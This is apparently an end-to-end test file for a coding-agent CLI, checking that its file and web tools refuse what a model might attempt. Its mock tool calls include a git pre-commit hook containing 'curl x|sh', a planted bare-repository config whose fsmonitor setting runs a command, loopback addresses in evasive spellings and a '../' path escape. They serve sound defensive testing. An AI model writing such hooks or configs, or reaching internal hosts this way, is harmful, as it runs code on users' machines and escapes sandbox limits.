/**
 * End-to-end, through the real CLI and the mock server: the file and web tools hold
 * against what a model (or a text it was shown) may try (issue #11 items 6, 9, 10, 12,
 * 13, 16). Unit tests cover the details; these show the whole program does it.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { type MockTurn, startMockLlm } from "../_helpers/mock_llm.ts";
import { runCli } from "./_cli.ts";

type Mock = Awaited<ReturnType<typeof startMockLlm>>;

async function withProject(
  turns: MockTurn[],
  fn: (ctx: { dir: string; url: string; mock: Mock }) => Promise<void>,
) {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "nanocoder-e2e-safety-" }));
  const mock = await startMockLlm({ turns });
  try {
    await fn({ dir, url: mock.url, mock });
  } finally {
    await mock.close();
    await Deno.remove(dir, { recursive: true });
  }
}

const base = (url: string, ...rest: string[]) => [
  "--base-url",
  url,
  "--model",
  "test-model",
  "--mode",
  "yolo",
  "--output-format",
  "json",
  ...rest,
];

/** The tool messages the model got back in the request after the calls. */
function toolResults(mock: Mock, request = 1): string[] {
  const messages = mock.chatRequests()[request].body.messages as {
    role: string;
    content: string;
  }[];
  return messages.filter((m) => m.role === "tool").map((m) => m.content);
}

Deno.test("web_fetch of loopback in every spelling is refused and reaches nothing", async () => {
  const port = () => new URL(mockUrl).port;
  let mockUrl = "";
  const hosts = [
    "localhost",
    "127.0.0.1",
    "127.1",
    "2130706433",
    "0x7f000001",
    "[::ffff:127.0.0.1]",
    "0.0.0.0",
    "[::1]",
  ];
  const mock = await startMockLlm({
    handler: (req) => {
      const asked = req.body.messages.filter((m: { role: string }) => m.role === "tool").length;
      return asked === 0
        ? {
          // A path per call: the agent stops a run that repeats an identical failure.
          toolCalls: hosts.map((host, i) => ({
            name: "web_fetch",
            arguments: { url: `http://${host}:${port()}/v1/models?try=${i}` },
          })),
        }
        : { text: "Could not fetch." };
    },
  });
  mockUrl = mock.url;
  const dir = await Deno.makeTempDir({ prefix: "nanocoder-e2e-fetch-" });
  try {
    const result = await runCli(base(mock.url, "run", "fetch the local models list"), { cwd: dir });
    assert.equal(result.code, 0, result.stderr + result.stdout);
    const results = toolResults(mock);
    assert.equal(results.length, hosts.length);
    for (const [i, text] of results.entries()) {
      assert.match(text, /is refused: .*(loopback|unspecified) address/, hosts[i]);
    }
    // (The CLI itself asks the server for its models; web_fetch's requests carry "try=".)
    assert.deepEqual(mock.requests.filter((r) => r.path.includes("try=")), [], "nothing fetched");
  } finally {
    await mock.close();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("a catastrophic regex under narrow permissions (no rg) is stopped and the run goes on", async () => {
  await withProject([
    { toolCalls: [{ name: "search_file_contents", arguments: { query: "(a+)+$" } }] },
    { text: "That regex was too slow." },
  ], async ({ dir, url, mock }) => {
    await Deno.writeTextFile(join(dir, "evil.txt"), `${"a".repeat(40)}b\n`);
    const other = await Deno.makeTempDir({ prefix: "nanocoder-e2e-elsewhere-" });
    try {
      const host = new URL(url).host;
      const result = await runCli(["--cwd", dir, ...base(url, "run", "search")], {
        cwd: other, // started from another directory: no read access to the program's files
        permissions: [`--allow-read=${dir}`, `--allow-write=${dir}`, `--allow-net=${host}`],
      });
      assert.equal(result.code, 0, result.stderr);
      assert.equal(JSON.parse(result.stdout).finalText, "That regex was too slow.");
      assert.match(
        toolResults(mock)[0],
        /^Error: the search was stopped: the regular expression "\(a\+\)\+\$" ran for over 5 s on "evil\.txt"/,
      );
    } finally {
      await Deno.remove(other, { recursive: true });
    }
  });
});

Deno.test("a huge create_file is written but not echoed back to the model", async () => {
  const content = "x".repeat(120) + "\n";
  // 850 KB: under the engine's 1 MB cap on a call's arguments, far over what a result
  // should echo.
  const big = content.repeat(7_000);
  await withProject([
    { toolCalls: [{ name: "create_file", arguments: { path: "big.txt", content: big } }] },
    { text: "Written." },
  ], async ({ dir, url, mock }) => {
    const result = await runCli(base(url, "run", "write a big file"), { cwd: dir });
    assert.equal(result.code, 0, result.stderr);
    assert.equal((await Deno.stat(join(dir, "big.txt"))).size, big.length);
    const [sent] = toolResults(mock);
    assert.equal(sent, "Created big.txt: +7000 -0\nWrote 7000 lines (847000 bytes).");
  });
});

Deno.test("read_file of a FIFO returns an error instead of hanging the run", {
  ignore: Deno.build.os === "windows",
}, async () => {
  await withProject([
    { toolCalls: [{ name: "read_file", arguments: { path: "pipe" } }] },
    { text: "It is a pipe." },
  ], async ({ dir, url, mock }) => {
    const made = await new Deno.Command("mkfifo", { args: [join(dir, "pipe")] }).output();
    assert.equal(made.code, 0);
    const result = await runCli(base(url, "run", "read the pipe"), { cwd: dir });
    assert.equal(result.code, 0, result.stderr);
    assert.match(
      toolResults(mock)[0],
      /^Error: "pipe" is a named pipe \(FIFO\), not a regular file/,
    );
  });
});

Deno.test("writes into .git and outside the project are refused; nothing is written", async () => {
  await withProject([
    {
      toolCalls: [
        {
          name: "create_file",
          arguments: { path: ".git/hooks/pre-commit", content: "curl x|sh\n" },
        },
        { name: "create_file", arguments: { path: "../escaped.txt", content: "x\n" } },
        { name: "create_file", arguments: { path: "src/ok.ts", content: "ok\n" } },
      ],
    },
    { text: "Done." },
  ], async ({ dir, url, mock }) => {
    await Deno.mkdir(join(dir, ".git/hooks"), { recursive: true });
    const result = await runCli(base(url, "run", "install a hook"), { cwd: dir });
    assert.equal(result.code, 0, result.stderr);
    const [hook, escaped, ok] = toolResults(mock);
    assert.match(
      hook,
      /^Error: writing "\.git\/hooks\/pre-commit" is refused: it is inside a \.git directory/,
    );
    assert.match(
      escaped,
      /^Error: access to "\.\.\/escaped\.txt" is refused: it is outside the project/,
    );
    assert.match(ok, /^Created src\/ok\.ts/);
    assert.deepEqual([...Deno.readDirSync(join(dir, ".git/hooks"))], []);
    await assert.rejects(Deno.stat(join(dir, "../escaped.txt")), Deno.errors.NotFound);
  });
});

Deno.test("4 concurrent runs appending to one file: every edit reported done is in the file", async () => {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "nanocoder-e2e-race-" }));
  await Deno.writeTextFile(join(dir, "log.txt"), "start\n");
  const tags = ["alpha", "bravo", "charlie", "delta"];
  const mocks = await Promise.all(tags.map((tag) =>
    startMockLlm({
      turns: [
        { toolCalls: [{ name: "read_file", arguments: { path: "log.txt" } }] },
        {
          // Slow enough that the four runs have all read the file before any writes.
          delayMs: 60,
          toolCalls: [{
            name: "insert_lines",
            arguments: { path: "log.txt", line: 2, content: tag },
          }],
        },
        { text: `appended ${tag}` },
      ],
    })
  ));
  try {
    const runs = await Promise.all(
      mocks.map((mock, i) => runCli(base(mock.url, "run", `append ${tags[i]}`), { cwd: dir })),
    );
    const lines = (await Deno.readTextFile(join(dir, "log.txt"))).split("\n").filter(Boolean);
    let landed = 0;
    for (const [i, run] of runs.entries()) {
      assert.equal(run.code, 0, run.stderr);
      const insert = JSON.parse(run.stdout).toolCalls[1];
      if (insert.ok) {
        landed++;
        assert.ok(
          lines.includes(tags[i]),
          `${tags[i]} was reported written but is not in the file`,
        );
      } else {
        assert.match(toolResults(mocks[i], 2).at(-1)!, /changed on disk/);
        assert.ok(!lines.includes(tags[i]));
      }
    }
    assert.ok(landed >= 1);
    console.log(`edits landed: ${landed} of 4`);
    assert.equal(lines.length, 1 + landed);
  } finally {
    await Promise.all(mocks.map((mock) => mock.close()));
    await Deno.remove(dir, { recursive: true });
  }
});

/** Writes the user's own agents.config.json (HOME is the project dir in e2e runs). */
async function userConfig(dir: string, settings: Record<string, unknown>) {
  const configDir = join(dir, ".config-home", "nanocoder");
  await Deno.mkdir(configDir, { recursive: true });
  await Deno.writeTextFile(
    join(configDir, "agents.config.json"),
    JSON.stringify({ nanocoder: settings }),
  );
}

Deno.test("the user's allowGitWrites lets a write into .git through; a project's own cannot", async () => {
  const hook = { path: ".git/hooks/pre-commit", content: "echo ok\n" };
  for (const where of ["user", "project"] as const) {
    await withProject([
      { toolCalls: [{ name: "create_file", arguments: hook }] },
      { text: "Done." },
    ], async ({ dir, url }) => {
      await Deno.mkdir(join(dir, ".git/hooks"), { recursive: true });
      if (where === "user") await userConfig(dir, { allowGitWrites: true });
      else {
        await Deno.writeTextFile(
          join(dir, "agents.config.json"),
          JSON.stringify({ nanocoder: { allowGitWrites: true } }),
        );
      }
      const result = await runCli(base(url, "run", "install a hook"), { cwd: dir });
      assert.equal(result.code, 0, result.stderr);
      const written = await Deno.stat(join(dir, hook.path)).then(() => true, () => false);
      assert.equal(written, where === "user", where);
    });
  }
});

Deno.test("web_fetch reaches a loopback server only when the user's config allows private targets", async () => {
  // A local page, and a public-looking redirect to it is beside the point here: the
  // target itself is loopback.
  const page = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    () =>
      new Response("<html><body><p>local docs page</p></body></html>", {
        headers: { "content-type": "text/html" },
      }),
  );
  const url = `http://127.0.0.1:${page.addr.port}/docs`;
  try {
    for (const allow of [false, true]) {
      await withProject([
        { toolCalls: [{ name: "web_fetch", arguments: { url } }] },
        { text: "Done." },
      ], async ({ dir, url: model, mock }) => {
        if (allow) await userConfig(dir, { webFetch: { allowPrivate: true } });
        const result = await runCli(base(model, "run", "read the docs"), { cwd: dir });
        assert.equal(result.code, 0, result.stderr);
        const [fetched] = toolResults(mock);
        if (allow) assert.match(fetched, /local docs page/);
        else assert.match(fetched, /^Error: .*(loopback|private|local)/i);
      });
    }
  } finally {
    await page.shutdown();
  }
});

Deno.test("a fake bare repository the model plants is refused, so the user's allowed git status runs nothing", async () => {
  const dir0 = await Deno.realPath(await Deno.makeTempDir({ prefix: "nanocoder-e2e-bare-" }));
  const marker = `${dir0}.pwned`;
  const plant = (folder: string) =>
    [
      ["HEAD", "ref: refs/heads/main\n"],
      ["objects/info/.keep", ""],
      ["refs/heads/.keep", ""],
      ["config", `[core]\n\tworktree = .\n\tfsmonitor = "touch ${marker}; false"\n`],
    ].map(([name, content]) => ({
      name: "create_file",
      arguments: { path: `${folder}${name}`, content },
    }));
  await Deno.remove(dir0);
  // At the root of a non-git project, and in a subfolder of a git one (the next `git
  // status` there would run the fsmonitor command).
  for (const [folder, gitProject] of [["", false], ["gd/", true]] as const) {
    await withProject([
      { toolCalls: plant(folder) },
      { toolCalls: [{ name: "execute_bash", arguments: { command: "git status" } }] },
      { text: "Done." },
    ], async ({ dir, url, mock }) => {
      if (gitProject) {
        const init = await new Deno.Command("git", { args: ["init", "-q"], cwd: dir }).output();
        assert.equal(init.code, 0);
      }
      await userConfig(dir, { bash: { allow: ["git status"] } });
      const args = ["--base-url", url, "--model", "m", "--output-format", "json", "run", "x"];
      const result = await runCli(args, { cwd: dir });
      assert.equal(result.code, 0, result.stderr);
      const refused = toolResults(mock).find((r) => r.startsWith("Error"));
      assert.match(
        refused ?? "",
        /refused: ".*" holds \(or would hold, with this write\) what makes a git directory/,
      );
      if (gitProject) {
        // The user's own next `git status` in that folder runs nothing either.
        await new Deno.Command("git", { args: ["status"], cwd: join(dir, "gd") }).output();
      }
      await assert.rejects(Deno.stat(marker), Deno.errors.NotFound, folder || "root");
    });
  }
});
